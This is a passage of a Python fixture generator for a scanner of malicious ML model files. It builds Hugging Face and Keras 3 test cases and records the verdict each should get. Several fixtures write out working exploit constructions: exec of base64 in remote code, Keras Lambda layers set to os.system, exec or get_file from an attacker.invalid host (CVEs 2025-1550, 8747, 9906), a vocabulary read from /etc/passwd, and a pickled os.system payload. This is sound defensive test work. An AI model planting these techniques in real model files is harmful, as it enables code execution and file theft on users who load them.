class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size=8, **kwargs):
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
"""

EVIL_MODELING = """import base64
import socket
import subprocess

import torch
from transformers import PreTrainedModel

subprocess.run(["id"])
exec(base64.b64decode("cHJpbnQoJ2lkJyk="))


class TinyModel(PreTrainedModel):
    pass
"""


def hf_fixtures():
    shutil.rmtree(os.path.join(ROOT, "hf"), ignore_errors=True)

    def folder(name, config, files, verdict, rules):
        with open(path("hf", name, "config.json"), "w") as f:
            json.dump(config, f, indent=2)
        expect(f"hf/{name}/config.json", verdict, rules)
        for fname, text in files.items():
            with open(path("hf", name, fname), "w") as f:
                f.write(text)
            expect(f"hf/{name}/{fname}", "clean", note="Python source: not a model")

    folder("plain_bert", BERT_CONFIG, {}, "clean", [])
    auto = {"AutoConfig": "configuration_tiny.TinyConfig", "AutoModel": "modeling_tiny.TinyModel"}
    folder("remote_code", dict(BERT_CONFIG, model_type="tiny", auto_map=auto),
           {"configuration_tiny.py": BENIGN_CONFIGURATION, "modeling_tiny.py": BENIGN_MODELING},
           "suspicious", ["PS978"])
    folder("remote_code_risky", dict(BERT_CONFIG, model_type="tiny", auto_map=auto),
           {"configuration_tiny.py": BENIGN_CONFIGURATION, "modeling_tiny.py": EVIL_MODELING},
           "suspicious", ["PS978"])
    folder("remote_code_other_repo", dict(BERT_CONFIG, auto_map={"AutoModel": "someorg/somerepo--modeling_x.XModel"}),
           {}, "suspicious", ["PS978"])


# --------------------------------------------------------------------------------------------
# Keras 3 (.keras zip: config.json, metadata.json, model.weights.h5), saved by keras with the
# torch backend; attacks are real saves with config.json edited
# --------------------------------------------------------------------------------------------

def keras_fixtures():
    import zipfile

    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras
    import torch

    shutil.rmtree(os.path.join(ROOT, "keras"), ignore_errors=True)

    def save(model, name):
        p = path("keras", name + ".keras")
        model.save(p)
        return p

    def config_of(p):
        with zipfile.ZipFile(p) as z:
            return json.loads(z.read("config.json"))

    def rewrite(src, name, edit):
        dst = path("keras", name + ".keras")
        with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
            for item in zin.infolist():
                data = zin.read(item.filename)
                if item.filename == "config.json":
                    data = json.dumps(edit(json.loads(data))).encode()
                zout.writestr(item, data)
        return dst

    def also_config(p, name, verdict, rules):
        """The config.json of a save on its own: judged without the HDF5 weights beside it."""
        with open(path("keras", name + ".config.json"), "w") as f:
            json.dump(config_of(p), f)
        expect(f"keras/{name}.config.json", verdict, rules)

    seq = keras.Sequential([keras.Input((4,)), keras.layers.Dense(8, activation="relu"),
                            keras.layers.Lambda(keras.activations.relu), keras.layers.Dense(2, activation="softmax")])
    seq.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    base = save(seq, "sequential_dense_lambda_relu")
    expect("keras/sequential_dense_lambda_relu.keras", "clean", [])
    also_config(base, "sequential_dense_lambda_relu", "clean", [])

    inp = keras.Input((8, 8, 3))
    x = keras.layers.Conv2D(4, 3, padding="same")(inp)
    x = keras.layers.BatchNormalization()(x)
    x = keras.layers.GlobalAveragePooling2D()(x)
    out = keras.layers.Dense(3)(x)
    func = save(keras.Model(inp, out), "functional_conv_bn")
    expect("keras/functional_conv_bn.keras", "clean", [])
    also_config(func, "functional_conv_bn", "clean", [])

    lam = save(keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda t: t * 2)]), "lambda_bytecode")
    # `lambda t: t * 2`: decoded, it names nothing.
    expect("keras/lambda_bytecode.keras", "clean", [])
    also_config(lam, "lambda_bytecode", "clean", [])

    def lambda_layer(cfg):
        return next(l for l in cfg["config"]["layers"] if l["class_name"] == "Lambda")

    def as_function(module, name, args=None):
        def edit(cfg):
            layer = lambda_layer(cfg)
            layer["config"]["function"] = {"module": module, "class_name": name, "config": name, "registered_name": name}
            if args:
                layer["config"]["arguments"] = args
            return cfg
        return edit

    # CVE-2025-1550: any importable callable as a Lambda function (Keras 3.0-3.8 imported it).
    p = rewrite(base, "cve_2025_1550_os_system", as_function("os", "system", {"command": "id"}))
    expect("keras/cve_2025_1550_os_system.keras", "dangerous", ["PS981"])
    also_config(p, "cve_2025_1550_os_system", "dangerous", ["PS981"])

    def builtins_exec(cfg):
        lambda_layer(cfg)["config"]["function"] = {"module": "builtins", "class_name": "function", "config": "exec",
                                                   "registered_name": "function"}
        return cfg

    p = rewrite(base, "builtins_exec_function", builtins_exec)
    expect("keras/builtins_exec_function.keras", "dangerous", ["PS981"])
    # CVE-2025-8747: keras.utils.get_file downloads and writes; CVE-2025-9906: safe mode turned off.
    p = rewrite(base, "cve_2025_8747_get_file", as_function("keras.utils", "get_file",
                                                            {"origin": "http://attacker.invalid/x", "cache_dir": "/tmp"}))
    expect("keras/cve_2025_8747_get_file.keras", "dangerous", ["PS981"])
    p = rewrite(base, "cve_2025_9906_enable_unsafe", as_function("keras.config", "enable_unsafe_deserialization"))
    expect("keras/cve_2025_9906_enable_unsafe.keras", "dangerous", ["PS981"])

    # CVE-2025-12058: a lookup vocabulary read from a path.
    def lookup(cfg):
        cfg["config"]["layers"].append({"module": "keras.layers", "class_name": "StringLookup",
                                        "config": {"name": "lookup", "vocabulary": "/etc/passwd", "num_oov_indices": 1},
                                        "registered_name": None})
        return cfg

    rewrite(base, "cve_2025_12058_vocabulary_path", lookup)
    expect("keras/cve_2025_12058_vocabulary_path.keras", "dangerous", ["PS983"])

    # CVE-2025-49655: TorchModuleWrapper holds base64 of torch.save output; here with a payload
    # pickled by hand (os.system('echo pwned'): never run, only written).
    import base64
    import io
    import pickle

    class Payload:
        def __reduce__(self):
            return (os.system, ("echo pwned",))

    buf = io.BytesIO()
    torch.save({"module": Payload()}, buf)

    def torch_wrapper(cfg):
        cfg["config"]["layers"].append({"module": "keras.layers", "class_name": "TorchModuleWrapper",
                                        "config": {"name": "torch_module_wrapper", "module": base64.b64encode(buf.getvalue()).decode()},
                                        "registered_name": "TorchModuleWrapper"})
        return cfg

    rewrite(base, "cve_2025_49655_torch_module_wrapper", torch_wrapper)
    expect("keras/cve_2025_49655_torch_module_wrapper.keras", "dangerous", ["PS101", "PS982"])
    del pickle


def main():
    for sub in ["templates/made", "templates/attack", "templates/suspicious"]:
        shutil.rmtree(os.path.join(ROOT, sub), ignore_errors=True)
    templates()
    onnx_fixtures()
    pmml_fixtures()
    ggml_fixtures()
    skops_fixtures()
    hf_fixtures()
    keras_fixtures()
    for extra in sys.argv[1:]:
        print("unknown argument", extra)
    manifest.write(ROOT, "manifest.json", __file__, MANIFEST)


if __name__ == "__main__":
    main()
